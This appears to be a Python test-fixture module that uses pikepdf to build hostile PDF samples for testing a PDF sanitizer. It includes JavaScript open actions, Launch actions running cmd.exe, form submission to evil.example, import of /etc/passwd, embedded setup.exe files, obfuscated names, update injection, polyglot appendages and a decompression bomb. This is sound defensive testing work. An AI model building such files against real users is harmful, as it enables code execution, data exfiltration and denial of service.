"""Hostile PDF files, each made here and named by its trick."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from functools import cache, partial
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, Pdf, Permissions, Stream, String

SCRIPT = String("app.alert(1)")
JAVASCRIPT = Dictionary(S=Name.JavaScript, JS=SCRIPT)
BOX = Array([0, 0, 100, 100])
PIECE, ADLER = 1 << 20, 65_521


def written(*changes: Callable[[Pdf], None], pages: int = 1, **options: Any) -> bytes:
    """A PDF of plain pages, changed, and saved with these options."""
    with Pdf.new() as document:
        for _ in range(pages):
            page = document.add_blank_page(page_size=(300, 300))
            page.Contents = document.make_stream(b"0 0 1 rg 50 50 100 100 re f")
        for change in changes:
            change(document)
        target = io.BytesIO()
        document.save(target, **options)
        return target.getvalue()


def in_root(key: str, value: object) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        document.Root[key] = value

    return change


def in_page(key: str, value: object) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        document.pages[0].obj[key] = value

    return change


def annotated(**members: Any) -> Callable[[Pdf], None]:
    """An annotation on the first page."""

    def change(document: Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Rect=BOX, **members)
        document.pages[0].obj.Annots = Array([document.make_indirect(annotation)])

    return change


def with_file(document: Pdf) -> Dictionary:
    """A file specification with a program in it."""
    stream = document.make_stream(b"MZ this program runs")
    stream.Type = Name.EmbeddedFile
    return document.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("setup.exe"), UF=String("setup.exe"), EF=Dictionary(F=stream))
    )


def embedded(document: Pdf) -> None:
    document.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("setup.exe"), with_file(document)])))


def associated(document: Pdf) -> None:
    document.Root.AF = Array([with_file(document)])


def attached_to_a_page(document: Pdf) -> None:
    annotated(Subtype=Name.FileAttachment, FS=with_file(document))(document)


def drawn(subtype: str, **members: Any) -> Callable[[Pdf], None]:
    """An XObject that the page draws."""

    def change(document: Pdf) -> None:
        stream = Stream(document, b"0 g 0 0 10 10 re f")
        stream.Type, stream.Subtype = Name.XObject, Name(subtype)
        for key, value in members.items():
            stream["/" + key] = value
        page = document.pages[0].obj
        page.Resources = Dictionary(XObject=Dictionary(X=document.make_indirect(stream)))
        page.Contents = document.make_stream(b"/X Do")

    return change


def untyped(document: Pdf) -> None:
    """Leaves out what need not be said of an XObject."""
    del document.pages[0].obj.Resources.XObject.X["/Type"]


def field(**members: Any) -> Callable[[Pdf], None]:
    """A form with one field."""

    def change(document: Pdf) -> None:
        widget = document.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("x"), V=String("1"), Rect=BOX, **members
            )
        )
        document.pages[0].obj.Annots = Array([widget])
        document.Root.AcroForm = Dictionary(Fields=Array([widget]))

    return change


def xfa(document: Pdf) -> None:
    packet = document.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>x()</script></xdp:xdp>")
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=packet)


def titled(document: Pdf) -> None:
    document.docinfo["/Author"] = String("<script>alert(1)</script>")
    document.Root.Metadata = document.make_stream(b"<x:xmpmeta><script/></x:xmpmeta>")


def content(data: bytes, **members: Any) -> Callable[[Pdf], None]:
    """Content as it is stored, with its filters."""

    def change(document: Pdf) -> None:
        stream = Stream(document, data)
        for key, value in members.items():
            stream["/" + key] = value
        document.pages[0].obj.Contents = document.make_indirect(stream)

    return change


def huge_image(document: Pdf) -> None:
    side = 60_000
    image = Stream(document, b"")
    image.write(deflated(side * side // 8), filter=Name.FlateDecode)
    image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, side, side
    image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 1
    page = document.pages[0].obj
    page.Resources = Dictionary(XObject=Dictionary(X=document.make_indirect(image)))
    page.Contents = document.make_stream(b"300 0 0 300 0 0 cm /X Do")


@cache
def deflated(size: int, byte: bytes = b"\0") -> bytes:
    """As many of one byte as said (RFC 1950): a piece that forgets what was before it, again and again, and a rest."""
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    piece = packer.compress(byte * PIECE) + packer.flush(zlib.Z_FULL_FLUSH)
    rest = packer.compress(byte * (size % PIECE)) + packer.flush()
    first, second = 1 + size * byte[0], size + size * (size + 1) // 2 * byte[0]  # Adler-32 of equal bytes
    return b"\x78\xda" + piece * (size // PIECE) + rest + (second % ADLER << 16 | first % ADLER).to_bytes(4)


def looping(document: Pdf) -> None:
    document.Root.Pages.Kids = Array([document.Root.Pages])


def updated() -> bytes:
    """A PDF to which an update was appended that puts a script into an object of the first one (7.5.6)."""
    plain = written(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    with Pdf.open(io.BytesIO(plain)) as document:
        root, pages, size = document.Root.objgen[0], document.Root.Pages.objgen[0], int(document.trailer.Size)
    first = plain.rindex(b"startxref\n") + 10
    changed = b"%d 0 obj\n<</Type/Catalog/Pages %d 0 R/OpenAction<</S/JavaScript/JS(evil)>>>>\nendobj\n" % (root, pages)
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size %d/Root %d 0 R/Prev %d>>\n" % (
        root, len(plain), size, root, int(plain[first : plain.index(b"\n", first)]),
    )  # fmt: skip
    return plain + changed + table + b"startxref\n%d\n%%%%EOF\n" % (len(plain) + len(changed))


def layered(document: Pdf) -> None:
    """Content on a layer that an action can show (8.11)."""
    layer = document.make_indirect(Dictionary(Type=Name.OCG, Name=String("evil")))
    state = Dictionary(D=Dictionary(OFF=Array([layer]), AS=Array([])))
    document.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=state.D)
    document.Root.OpenAction = Dictionary(S=Name.SetOCGState, State=Array([Name.ON, layer]))


def collection(document: Pdf) -> None:
    """A portfolio: a cover, and the files that matter behind it (12.3.5)."""
    embedded(document)
    document.Root.Collection = Dictionary(Type=Name.Collection, View=Name.H)


def escaped() -> bytes:
    """A name written otherwise; the script loses as many bytes as the name gains, so that the offsets stay true."""
    plain = written(in_root("/OpenAction", JAVASCRIPT))
    return plain.replace(b"(app.alert", b"(app.a").replace(b"/JavaScript", b"/J#61v#61Script")


URI = Dictionary(S=Name.URI, URI=String("https://evil.example/"))
LAUNCH = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))


# Those whose pages are sound: what is hostile hangs on them.
def with_a_layer(off: bool) -> Callable[[Pdf], None]:
    """A layer of the document, on or off."""

    def change(document: Pdf) -> None:
        layer = document.make_indirect(Dictionary(Type=Name.OCG, Name=String("layer")))
        shown = Dictionary(OFF=Array([layer])) if off else Dictionary(ON=Array([layer]))
        document.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=shown)

    return change


def named_like_an_action(place: str) -> Callable[[Pdf], None]:
    """Resources whose names make an action of the map."""

    def change(document: Pdf) -> None:
        action = Dictionary(S=Name.JavaScript, JS=SCRIPT, Type=Name.Action)  # anew: it comes to belong to the document
        document.pages[0].obj.Resources = Dictionary({place: document.make_indirect(action)})

    return change


ACTIVE: dict[str, Callable[[], bytes]] = {
    "open_action_script": lambda: written(in_root("/OpenAction", JAVASCRIPT)),
    **{
        f"script_that_is_a_map_of_{place[1:].lower()}s": partial(written, named_like_an_action(place))
        for place in ("/XObject", "/Font", "/ExtGState", "/ColorSpace", "/Pattern", "/Shading")
    },
    "script_that_is_called_a_group": lambda: written(in_page("/Group", JAVASCRIPT)),
    "script_that_is_called_a_soft_mask": lambda: written(
        in_page("/Resources", Dictionary(ExtGState=Dictionary({"/G1": Dictionary(SMask=JAVASCRIPT)})))
    ),
    "launch_that_is_called_a_font": lambda: written(
        in_page("/Resources", Dictionary(Font=Dictionary({"/F1": Dictionary(Type=Name.Action, A=LAUNCH)})))
    ),
    "open_action_launch": lambda: written(in_root("/OpenAction", LAUNCH)),
    "script_when_closing": lambda: written(in_root("/AA", Dictionary(WC=JAVASCRIPT))),
    "script_when_a_page_opens": lambda: written(in_page("/AA", Dictionary(O=JAVASCRIPT))),
    "script_in_the_names": lambda: written(
        in_root("/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), JAVASCRIPT]))))
    ),
    "launch_behind_a_link": lambda: written(annotated(Subtype=Name.Link, A=LAUNCH)),
    "address_behind_a_link": lambda: written(annotated(Subtype=Name.Link, A=URI)),
    "remote_document": lambda: written(
        annotated(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("//evil.example/share"), D=Array([0])))
    ),
    "form_that_submits": lambda: written(
        annotated(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))
    ),
    "form_that_imports": lambda: written(
        annotated(Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("/etc/passwd")))
    ),
    "chain_of_actions": lambda: written(in_root("/OpenAction", Dictionary(S=Name.GoTo, D=Array([0]), Next=JAVASCRIPT))),
    "embedded_file": lambda: written(embedded),
    "associated_file": lambda: written(associated),
    "file_on_a_page": lambda: written(attached_to_a_page),
    "rich_media": lambda: written(annotated(Subtype=Name("/RichMedia"), RichMediaContent=Dictionary())),
    "three_dimensions": lambda: written(annotated(Subtype=Name("/3D"), A=JAVASCRIPT)),
    "rendition": lambda: written(annotated(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, JS=SCRIPT))),
    "movie": lambda: written(annotated(Subtype=Name.Movie, Movie=Dictionary(F=String("m.avi")), A=True)),
    "script_in_a_field": lambda: written(field(AA=Dictionary(K=JAVASCRIPT))),
    "xfa": lambda: written(xfa),
    "script_in_an_object_stream": lambda: written(
        in_root("/OpenAction", JAVASCRIPT), object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "escaped_name": escaped,
    "metadata": lambda: written(titled),
    "script_in_an_update": updated,
    "action_that_shows_a_layer": lambda: written(layered),
    "portfolio_with_a_file": lambda: written(collection),
    "launch_of_a_page_on_this_machine": lambda: written(
        in_root("/OpenAction", Dictionary(S=Name.URI, URI=String("file:///c:/windows/system32/cmd.exe")))
    ),
    "script_in_an_outline": lambda: written(
        in_root("/Outlines", Dictionary(First=Dictionary(Title=String("x"), A=JAVASCRIPT)))
    ),
    "launch_in_an_object_stream": lambda: written(
        in_root("/OpenAction", LAUNCH), object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "xfa_in_an_object_stream": lambda: written(xfa, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "thread_of_another_file": lambda: written(
        annotated(Subtype=Name.Link, A=Dictionary(S=Name.Thread, F=String("//evil.example/x.pdf"), D=0))
    ),
    "linearized_script": lambda: written(in_root("/OpenAction", JAVASCRIPT), linearize=True),
    "reference_to_another_file": lambda: written(
        drawn("/Form", BBox=BOX, Ref=Dictionary(F=String("//evil.example/x.pdf"), Page=0))
    ),
    "alternate_image": lambda: written(drawn("/Form", BBox=BOX, OPI=Dictionary(), Metadata=String("x"), AF=Array([]))),
    "archive_behind_it": lambda: written() + b"PK\x03\x04" + b"\0" * 26 + b"evil.exePK\x05\x06" + b"\0" * 18,
    "program_behind_it": lambda: written() + b"\nMZ\x90\0 this program runs\n",
    "page_behind_it": lambda: written() + b"\n<html><script>alert(1)</script></html>\n",
}

# Those that draw with parts of another file, or of a kind that none should have.
FOREIGN: dict[str, Callable[[], bytes]] = {
    "external_stream": lambda: written(drawn("/Form", BBox=BOX, F=String("//evil.example/x"))),
    "postscript": lambda: written(drawn("/PS")),
    "postscript_without_a_type": lambda: written(drawn("/PS"), untyped),
}


def locked(user: str) -> bytes:
    return written(encryption=Encryption(owner="owner", user=user, R=6, allow=Permissions(extract=False)))


ENCRYPTED = {"password": lambda: locked("user"), "empty_password": lambda: locked("")}
TRUNCATED = {"cut_in_half": lambda: written()[: len(written()) // 2]}
DAMAGED = {
    "endless_pages": lambda: written(looping),
    "moved_table": lambda: written().replace(b"startxref\n", b"startxref\n9"),
    "no_pages": lambda: written(in_root("/Pages", Dictionary(Type=Name.Pages, Kids=Array([]), Count=0))),
}
